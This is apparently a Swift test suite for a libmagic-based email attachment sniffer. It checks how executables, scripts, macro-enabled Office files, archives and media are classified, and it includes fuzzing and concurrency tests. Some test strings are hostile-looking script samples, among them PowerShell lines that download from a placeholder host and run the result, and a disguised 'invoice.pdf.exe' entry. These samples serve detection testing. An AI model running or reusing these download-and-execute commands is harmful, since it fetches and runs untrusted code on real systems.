import Dispatch
import Foundation
import SluiceAttachments
import Testing

@Suite struct AttachmentSnifferTests {
    /// One sniffer for the suite's tests, as the proxy shares one across its thread pool.
    static let sniffer: AttachmentSniffer = {
        do { return try AttachmentSniffer(cookies: 2) } catch { fatalError("libmagic database: \(error)") }
    }()

    func sniff(_ bytes: [UInt8]) -> Sniffed { Self.sniffer.sniff(bytes) }
    func sniff(_ text: String) -> Sniffed { Self.sniffer.sniff(Array(text.utf8)) }

    @Test func anELFBinaryIsAnExecutable() throws {
        let result = sniff(try TestSupport.readFile(URL(fileURLWithPath: "/bin/true")))
        #expect(result.kind == .executable)
        #expect(result.description.hasPrefix("ELF"))
    }

    @Test func aMinimalPEImageIsAnExecutable() {
        let result = sniff(Samples.minimalPE())
        #expect(result.kind == .executable)
        #expect(result.description.contains("PE32") || result.description.contains("MS-DOS"))
    }

    @Test func aBareMZStubIsAnExecutable() {
        var stub = [UInt8](repeating: 0, count: 256)
        stub[0] = UInt8(ascii: "M"); stub[1] = UInt8(ascii: "Z")
        #expect(sniff(stub).kind == .executable)
    }

    @Test(arguments: [
        "#!/bin/sh\necho hello\n",
        "#!/usr/bin/env python3\nprint('hello')\n",
        "#!/usr/bin/perl\nprint 1;\n",
        "@echo off\r\necho hello\r\n",
    ])
    func interpretedFilesThatLibmagicNamesAreScripts(_ source: String) {
        #expect(sniff(source).kind == .script)
    }

    @Test(arguments: [
        "Set shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"calc.exe\"\r\n",
        "var shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"calc.exe\");\n",
        "$client = New-Object System.Net.WebClient\nInvoke-Expression $client.DownloadString('http://x/')\n",
        "REM setup\r\n@ECHO OFF\r\nstart payload.exe\r\n",
    ])
    func scriptsThatLibmagicCallsPlainTextAreScripts(_ source: String) {
        let result = sniff(source)
        #expect(result.mimeType == "text/plain")
        #expect(result.kind == .script)
    }

    @Test func anHTMLApplicationIsAScript() {
        let hta = "<html><head><HTA:APPLICATION ID=\"app\"/><script language=\"VBScript\">\nSub Window_OnLoad\nEnd Sub\n"
            + "</script></head><body></body></html>\n"
        let result = sniff(hta)
        #expect(result.mimeType == "text/html")
        #expect(result.kind == .script)
    }

    @Test func aUTF16PowerShellScriptIsAScript() {
        let source = "Invoke-WebRequest -Uri http://x/a.exe -OutFile a.exe\r\nStart-Process a.exe\r\n"
        let bytes: [UInt8] = [0xFF, 0xFE] + source.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        #expect(sniff(bytes).kind == .script)
    }

    @Test func plainTextAndPlainHTMLAreText() {
        #expect(sniff("Dear customer,\nplease find the minutes attached.\n").kind == .text)
        #expect(sniff("<!DOCTYPE html><html><body><p>Hello</p><script>var a = 1;</script></body></html>\n").kind == .text)
    }

    @Test func aPDFHeaderIsAPDF() {
        let result = sniff("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
        #expect(result.mimeType == "application/pdf")
        #expect(result.kind == .pdf)
    }

    @Test func aPNGIsAnImage() {
        let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52,
                            0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89]
        let result = sniff(png)
        #expect(result.mimeType == "image/png")
        #expect(result.kind == .image)
    }

    @Test func aWAVIsAudioAndAnMP4IsVideo() {
        var wav = Array("RIFF".utf8) + Samples.littleEndian(UInt32(36)) + Array("WAVEfmt ".utf8)
        wav += Samples.littleEndian(UInt32(16)) + Samples.littleEndian(UInt16(1)) + Samples.littleEndian(UInt16(1))
        wav += Samples.littleEndian(UInt32(8000)) + Samples.littleEndian(UInt32(8000)) + Samples.littleEndian(UInt16(1))
        wav += Samples.littleEndian(UInt16(8)) + Array("data".utf8) + Samples.littleEndian(UInt32(0))
        #expect(sniff(wav).kind == .audio)
        let mp4: [UInt8] = [0, 0, 0, 0x18] + Array("ftypisom".utf8) + [0, 0, 2, 0] + Array("isomiso2".utf8)
            + [0, 0, 0, 8] + Array("free".utf8)
        #expect(sniff(mp4).kind == .video)
    }

    static let contentTypes = "b'<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
        + "wordprocessingml.document.main+xml\"/></Types>'"

    @Test func aDocxIsAnOfficeDocument() throws {
        let docx = try TestSupport.pythonZip([
            ("'[Content_Types].xml'", Self.contentTypes), ("'_rels/.rels'", "b'<Relationships/>'"),
            ("'word/document.xml'", "b'<w:document/>'"),
        ])
        #expect(sniff(docx).kind == .office)
    }

    @Test func aDocmIsAMacroDocument() throws {
        let docm = try TestSupport.pythonZip([
            ("'[Content_Types].xml'", Self.contentTypes), ("'_rels/.rels'", "b'<Relationships/>'"),
            ("'word/document.xml'", "b'<w:document/>'"), ("'word/vbaProject.bin'", "b'\\xd0\\xcf\\x11\\xe0' * 64"),
        ])
        #expect(sniff(docm).kind == .officeMacro)
    }

    @Test func aZipWithAnExecutableIsAnArchive() throws {
        let zip = try TestSupport.pythonZip([("'invoice.pdf.exe'", "b'MZ' + bytes(300)")])
        let result = sniff(zip)
        #expect(result.mimeType == "application/zip")
        #expect(result.kind == .archive)
    }

    @Test func aGzipIsAnArchive() throws {
        let gz = try TestSupport.python("out(gzip.compress(b'hello ' * 100))")
        #expect(sniff(gz).kind == .archive)
    }

    @Test func anOLEFileWithAVBAStorageIsAMacroDocument() {
        let doc = Samples.compoundFile([("WordDocument", 2), ("VBA", 1), ("_VBA_PROJECT", 2)])
        let result = sniff(doc)
        #expect(result.kind == .officeMacro)
        #expect(result.mimeType == "application/msword")
    }

    @Test func anOLEWordFileWithoutMacrosIsAnOfficeDocument() {
        let result = sniff(Samples.compoundFile([("WordDocument", 2), ("1Table", 2)]))
        #expect(result.kind == .office)
        #expect(result.mimeType == "application/msword")
        #expect(sniff(Samples.compoundFile([("Workbook", 2)])).mimeType == "application/vnd.ms-excel")
    }

    @Test func anOLEFileWithTheInstallerClassIsAnExecutable() {
        let msiClass: [UInt8] = [0x84, 0x10, 0x0C, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00,
                                 0x00, 0x46]
        let result = sniff(Samples.compoundFile([("SummaryInformation", 2)], rootClass: msiClass))
        #expect(result.kind == .executable)
        #expect(result.mimeType == "application/x-msi")
    }

    @Test func zeroBytesAreData() {
        let result = sniff([UInt8]())
        #expect(result.kind == .data)
        #expect(result.mimeType == "application/x-empty")
        #expect(Self.sniffer.sniff(UnsafeRawBufferPointer(start: nil, count: 0)).kind == .data)
    }

    @Test func randomAndCutOffInputNeverCrashes() throws {
        var random = TestSupport.SplitMix64(state: 42)
        for round in 0..<200 {
            let count = Int.random(in: 0..<4096, using: &random)
            var bytes = (0..<count).map { _ in UInt8.random(in: 0...255, using: &random) }
            if round % 4 == 0, count > 8 { bytes.replaceSubrange(0..<8, with: [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) }
            if round % 4 == 1, count > 4 { bytes.replaceSubrange(0..<4, with: [0x50, 0x4B, 0x03, 0x04]) }
            _ = sniff(bytes)
        }
        let pe = Samples.minimalPE()
        for length in stride(from: 0, through: pe.count, by: 7) { _ = sniff(Array(pe.prefix(length))) }
        let doc = Samples.compoundFile([("WordDocument", 2), ("VBA", 1)])
        for length in stride(from: 0, through: doc.count, by: 13) { _ = sniff(Array(doc.prefix(length))) }
    }

    @Test func sniffingFromManyThreadsAtOnceGivesTheSameAnswers() throws {
        let samples: [([UInt8], AttachmentKind)] = [
            (Samples.minimalPE(), .executable), (Array("#!/bin/sh\nexit 0\n".utf8), .script),
            (Array("%PDF-1.4\n".utf8), .pdf), (Array("just words\n".utf8), .text),
            (Samples.compoundFile([("WordDocument", 2), ("VBA", 1)]), .officeMacro),
        ]
        let sniffer = try AttachmentSniffer(cookies: 3)
        let mismatches = Counter()
        DispatchQueue.concurrentPerform(iterations: 8) { worker in
            for round in 0..<60 {
                let (bytes, kind) = samples[(worker + round) % samples.count]
                if sniffer.sniff(bytes).kind != kind { mismatches.increment() }
            }
        }
        #expect(mismatches.value == 0)
    }

    @Test func aMissingDatabaseIsAStartUpError() {
        #expect(throws: AttachmentSniffer.StartError.self) {
            _ = try AttachmentSniffer(cookies: 1, database: "/nonexistent/sluice-magic.mgc")
        }
    }
}

/// A thread-safe tally for the concurrency test.
final class Counter: @unchecked Sendable {
    private let lock = NSLock()
    private var count = 0
    func increment() { lock.withLock { count += 1 } }
    var value: Int { lock.withLock { count } }
}

/// libmagic's "DOS executable (COM)" is any data starting with 0xE9, 0xEB or 0xB8: random octets (the
/// 50 MiB attachment of `LargeAttachmentTests` once) must not be an executable.
@Suite struct RandomDataIsNotAnExecutableTests {
    @Test(arguments: [UInt8(0xE9), 0xEB, 0xB8])
    func randomOctetsStartingWithAJumpAreData(first: UInt8) throws {
        var state: UInt64 = 0x9E37_79B9_7F4A_7C15
        var bytes: [UInt8] = [first]
        for _ in 0..<65_535 {
            state = state &* 6364136223846793005 &+ 1442695040888963407
            bytes.append(UInt8(truncatingIfNeeded: state >> 56))
        }
        let sniffer = try AttachmentSniffer(cookies: 1)
        #expect(sniffer.sniff(bytes).kind == .data, "\(sniffer.sniff(bytes))")
    }
}
